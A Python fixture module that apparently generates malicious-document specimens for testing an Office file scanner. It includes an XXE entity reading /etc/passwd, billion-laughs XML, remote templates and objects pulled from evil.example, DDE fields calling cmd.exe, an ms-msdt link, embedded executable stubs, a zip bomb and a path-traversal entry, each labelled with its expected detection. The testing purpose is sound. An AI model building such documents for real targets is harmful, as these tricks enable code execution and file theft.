"""Office files: macros in every place, what loads from outside, embedded programs, damaged and locked ones."""

from containers import docx, native, odf, ole, pptx, relation, xlsx
from corpus_zips import zipped
from specimen import Specimen

X = "application/vnd.openxmlformats-officedocument"
DOCX, PPTX, XLSX = f"{X}.wordprocessingml.document", f"{X}.presentationml.presentation", f"{X}.spreadsheetml.sheet"
DOC, XLS, PPT = "application/msword", "application/vnd.ms-excel", "application/vnd.ms-powerpoint"
ODT, ODP = "application/vnd.oasis.opendocument.text", "application/vnd.oasis.opendocument.presentation"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><Types>&b;</Types>'
ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><Relationships>&e;</Relationships>'


def specimens():
    yield from modern()
    yield from linking()
    yield from old()
    yield from open_document()


def modern():
    yield Specimen("Word", "mo-ta.docx", docx(), DOCX)
    yield Specimen("PowerPoint", "trinh-bay.pptx", pptx(), PPTX)
    yield Specimen("Excel", "so-lieu.xlsx", xlsx(), XLSX)
    yield Specimen("Word with a link", "mo-ta.docx", docx(relation("hyperlink", "https://sao-mai.example.vn")), DOCX)
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    yield Specimen("Word with macros", "mo-ta.docm", docx(more=macro), DOCX, "office_macros")
    yield Specimen(
        "macros under another name", "mo-ta.docx", docx(more={"word/VBAPROJECT.BIN": b"x"}), DOCX, "office_macros"
    )
    enabled = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    yield Specimen("declared as with macros", "mo-ta.docx", docx(types=enabled), DOCX, "office_macros")
    yield Specimen("PowerPoint with macros", "x.pptm", pptx(more={"ppt/vbaProject.bin": b"x"}), PPTX, "office_macros")
    yield Specimen("Excel with macros", "x.xlsm", xlsx({"xl/vbaProject.bin": b"x"}), XLSX, "office_macros")
    yield Specimen("Excel 4 macro sheet", "x.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), XLSX, "office_macros")
    yield Specimen(
        "control of ActiveX", "x.docx", docx(more={"word/activeX/activeX1.bin": b"x"}), DOCX, "office_program"
    )
    table = {"word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()}
    yield Specimen("Word with an Excel table", "x.docx", docx(more=table), DOCX, notes=["embedded"])
    yield Specimen("program embedded", "x.docx", docx(more={"word/embeddings/a.exe": b"MZ"}), DOCX, "office_program")
    yield Specimen(
        "program embedded as data", "x.pptx", pptx(more={"ppt/embeddings/a.bin": b"MZ\x90"}), PPTX, "office_program"
    )
    packed = ole({"\x01Ole10Native": native("hoa-don.js", b"var x")})
    yield Specimen(
        "script in an embedded object",
        "x.docx",
        docx(more={"word/embeddings/oleObject1.bin": packed}),
        DOCX,
        "office_program",
    )
    harmless = ole({"\x01Ole10Native": native("so-lieu.csv", b"1,2")})
    yield Specimen(
        "table in an embedded object",
        "x.docx",
        docx(more={"word/embeddings/oleObject1.bin": harmless}),
        DOCX,
        notes=["embedded"],
    )
    yield Specimen(
        "entities that multiply",
        "x.docx",
        zipped({"[Content_Types].xml": LAUGHS, "word/document.xml": "<x/>"}),
        DOCX,
        "office_damaged",
    )
    yield Specimen("entity of a file", "x.docx", docx(more={"word/_rels/a.rels": ENTITY}), DOCX, "office_damaged")
    yield Specimen(
        "XML cut off", "x.docx", docx(more={"word/_rels/a.rels": "<Relationships><Rel"}), DOCX, "office_damaged"
    )
    yield Specimen("without its list of types", "x.docx", zipped({"word/document.xml": "<x/>"}), DOCX, "office_damaged")
    yield Specimen("document as a bomb", "x.docx", docx(more={"word/media/a.bmp": bytes(40 << 20)}), DOCX, "zip_bomb")
    yield Specimen("document with a path upward", "x.docx", docx(more={"../../evil": "x"}), DOCX, "zip_name")


def linking():
    def one(name, kind, target, problem="office_link", notes=(), make=docx, media=DOCX):
        return Specimen(name, "x.docx", make(relation(kind, target)), media, problem, notes=list(notes))

    yield one("template from the internet", "attachedTemplate", "https://evil.example/x.dotm", "office_template")
    yield one("template from a share", "attachedTemplate", "\\\\evil\\x.dotm", "office_template")
    yield one("object from the internet", "oleObject", "https://evil.example/x.html")
    yield one("object by mhtml", "oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x")
    yield one("picture from a share", "image", "file:///\\\\evil\\a.png")
    yield one("frame", "frame", "https://evil.example/")
    yield one("slide's object", "oleObject", "https://evil.example/x", make=pptx, media=PPTX)
    yield one("picture from the internet", "image", "https://example.vn/a.png", "", ["remote_picture"])
    yield one("link that starts a tool", "hyperlink", "ms-msdt:/id PCWDiagnostic", "", ["odd_link"])
    dde = "<w:instrText>DDEA</w:instrText><w:instrText>UTO c:\\\\windows\\\\cmd.exe</w:instrText>"
    yield Specimen("DDE in two halves", "x.docx", docx(body=dde), DOCX, "office_link")
    field = '<w:fldSimple w:instr="DDE excel a"/>'
    yield Specimen("DDE in a field", "x.docx", docx(body=field), DOCX, "office_link")
    yield Specimen(
        "DDE in Excel",
        "x.xlsx",
        xlsx({"xl/externalLinks/externalLink1.xml": "<ddeLink ddeService='cmd'/>"}),
        XLSX,
        "office_link",
    )


def old():
    word = bytes(512)
    yield Specimen("old Word", "x.doc", ole({"WordDocument": word}), DOC)
    yield Specimen("old PowerPoint", "x.ppt", ole({"PowerPoint Document": word}), PPT)
    yield Specimen("old Excel", "x.xls", ole({"Workbook": word}), XLS)
    yield Specimen(
        "old Word with macros", "x.doc", ole({"WordDocument": word, "Macros/VBA/dir": b"x"}), DOC, "office_macros"
    )
    yield Specimen(
        "old Excel with macros",
        "x.xls",
        ole({"Workbook": word, "_VBA_PROJECT_CUR/VBA/dir": b"x"}),
        XLS,
        "office_macros",
    )
    locked = bytes(11) + b"\x01" + bytes(500)
    yield Specimen("old Word, locked", "x.doc", ole({"WordDocument": locked}), DOC, "office_locked")
    packed = {"WordDocument": word, "ObjectPool/_1/\x01Ole10Native": native("xem.exe")}
    yield Specimen("old Word with a program", "x.doc", ole(packed), DOC, "office_program")
    yield Specimen(
        "modern, locked by a password", "x.docx", ole({"EncryptedPackage": word, "EncryptionInfo": word}), ""
    )
    yield Specimen("container of something else", "x.msi", ole({"Something": word}), "")
    yield Specimen("container cut off", "x.doc", ole({"WordDocument": word})[:700], "")


def open_document():
    yield Specimen("LibreOffice text", "x.odt", odf("text"), ODT)
    yield Specimen("LibreOffice slides", "x.odp", odf("presentation"), ODP)
    yield Specimen(
        "LibreOffice with Basic", "x.odt", odf("text", more={"Basic/script-lc.xml": "<x/>"}), ODT, "office_macros"
    )
    event = "<o><script:event-listener/></o>"
    yield Specimen("LibreOffice with an event", "x.odt", odf("text", event), ODT, "office_macros")
    linked = '<o><draw:object xlink:href="https://evil.example/x"/></o>'
    yield Specimen("LibreOffice with a linked object", "x.odt", odf("text", linked), ODT, "office_link")
    sealed = {"META-INF/manifest.xml": "<m:encryption-data/>"}
    yield Specimen("LibreOffice, locked", "x.odt", odf("text", more=sealed), ODT, "office_locked")
